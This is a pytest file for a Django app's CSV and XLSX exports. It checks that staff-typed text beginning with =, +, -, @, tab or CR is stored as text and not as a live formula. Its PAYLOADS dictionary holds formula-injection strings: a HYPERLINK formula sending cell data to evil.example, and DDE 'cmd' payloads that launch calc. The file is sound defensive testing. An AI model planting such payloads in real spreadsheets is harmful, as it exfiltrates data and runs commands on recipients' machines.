"""Issue 14 item 6: formula injection. Texts that staff type (registers, shelter profile) reach the follow-up's
CSV and XLSX, which are sent to the municipality; a cell starting with =, +, -, @, tab or CR must stay text."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
import time_machine
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from tests.reporting.factories import CompetenceDevelopmentFactory, PrintedFolderFactory, make_report, shelter_in

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture(autouse=True)
def _today():
    with time_machine.travel("2026-03-01 10:00 +0100", tick=False):
        yield


def _report_with(payload: str, coordinator):
    shelter_in("0136", opening_hours=payload, telephone_hours=payload)
    PrintedFolderFactory(date=dt.date(2025, 2, 1), language=payload, placed_at=payload)
    CompetenceDevelopmentFactory(date=dt.date(2025, 4, 10), title=payload, provider="Länsstyrelsen")
    return make_report(by=coordinator)


@pytest.mark.parametrize("prefix", list(PAYLOADS))
def test_follow_up_csv_writes_formula_like_texts_as_text(prefix, coordinator, coordinator_client):
    payload = PAYLOADS[prefix]
    report = _report_with(payload, coordinator)
    response = coordinator_client.get(reverse("reporting:report_csv", args=[report.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    # The texts are there (opening hours, telephone hours, folder language, course) ...
    assert sum(payload in cell for cell in cells) >= 3
    # ... and no cell starts like a formula: each got the apostrophe that makes it text.
    assert [cell for cell in cells if cell.startswith(tuple(PAYLOADS))] == []
    assert "'" + payload in cells


@pytest.mark.parametrize("prefix", list(PAYLOADS))
def test_follow_up_xlsx_stores_formula_like_texts_as_text_cells(prefix, coordinator, coordinator_client):
    payload = PAYLOADS[prefix]
    report = _report_with(payload, coordinator)
    response = coordinator_client.get(reverse("reporting:report_xlsx", args=[report.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    # (XML reads a carriage return back as a line feed: find the texts by their visible part.)
    texts = [cell for cell in cells if isinstance(cell.value, str) and payload.strip() in cell.value]
    assert len(texts) >= 3
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)


def test_statistics_csv_goes_through_the_helper(coordinator_client):
    """The support line's statistics CSV holds labels and counts; a label starting with '-' would still be text."""
    response = coordinator_client.get(reverse("calls:statistics_csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Avsnitt", "Rad", "Värde"]
    assert [cell for row in rows for cell in row if cell.startswith(tuple(PAYLOADS))] == []


# Every CSV and XLSX download the access policy lists. A new one fails test_every_export_is_checked_here
# until it is added here with how to ask for it (and, when typed text can reach it, a payload test above).
EXPORTS = {
    "reporting:report_csv": "report",
    "reporting:report_xlsx": "report",
    "calls:statistics_csv": {"start": "2025-01-01", "end": "2025-12-31"},
    "regulation:statistics_csv": {"year": "2025"},
    "regulation:statistics_xlsx": {"year": "2025"},
}


def test_every_export_is_checked_here():
    from jour.access.policy import POLICY
    from jour.access.rules import EXPORT

    spreadsheets = {
        name
        for name, page in POLICY.items()
        if page.audit == EXPORT
        and ("csv" in name or "xlsx" in name or reverse_or_none(name).endswith((".csv", "csv/", "xlsx/")))
    }
    assert spreadsheets == set(EXPORTS)


def reverse_or_none(name: str) -> str:
    from django.urls import NoReverseMatch

    try:
        return reverse(name)
    except NoReverseMatch:
        return ""


def _cells(response) -> list:
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
        return [cell for row in rows for cell in row]
    sheets = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]


def _runs_as_formula(cell) -> bool:
    """A CSV cell a spreadsheet would run, or an XLSX cell stored as a formula or as formula-like text
    without the quote prefix."""
    if isinstance(cell, str):
        return cell.startswith(tuple(PAYLOADS)) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell)
    if cell.data_type == "f":
        return True
    value = cell.value
    return isinstance(value, str) and value.lstrip("\n").startswith(tuple(PAYLOADS)) and not cell.quotePrefix


@pytest.mark.parametrize("prefix", list(PAYLOADS))
@pytest.mark.parametrize("export", list(EXPORTS))
def test_no_export_holds_a_live_formula(export, prefix, coordinator, coordinator_client):
    """Every CSV/XLSX of the app, with every text staff can type set to a formula-like payload."""
    report = _report_with(PAYLOADS[prefix], coordinator)
    params = EXPORTS[export]
    if params == "report":
        response = coordinator_client.get(reverse(export, args=[report.pk]))
    else:
        response = coordinator_client.get(reverse(export), params)
    assert response.status_code == 200
    cells = _cells(response)
    assert cells, export
    assert [cell for cell in cells if _runs_as_formula(cell)] == []


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|from openpyxl import Workbook|xlsxwriter")


def _project_app_roots(root: Path) -> set[Path]:
    """The top folder of every app of the project, read from the app registry: a new top-level app such as
    regulation/ is checked without anyone remembering to add it here."""
    from django.apps import apps

    paths = [Path(config.path) for config in apps.get_app_configs()]
    ours = [path for path in paths if path.is_relative_to(root) and "site-packages" not in path.parts]
    return {root / path.relative_to(root).parts[0] for path in ours}


def test_the_helper_check_reads_every_app_of_the_project():
    names = {path.name for path in _project_app_roots(Path(settings.BASE_DIR))}
    assert {"jour", "regulation", "reporting", "residents", "volunteers"} <= names
    assert not any(name.startswith(".") for name in names)


def test_every_csv_and_xlsx_export_uses_the_one_helper():
    root = Path(settings.BASE_DIR)
    offenders = []
    for directory in _project_app_roots(root):
        for path in directory.rglob("*.py"):
            if path.match("jour/lib/exports.py") or "migrations" in path.parts:
                continue
            if WRITERS.search(path.read_text()):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
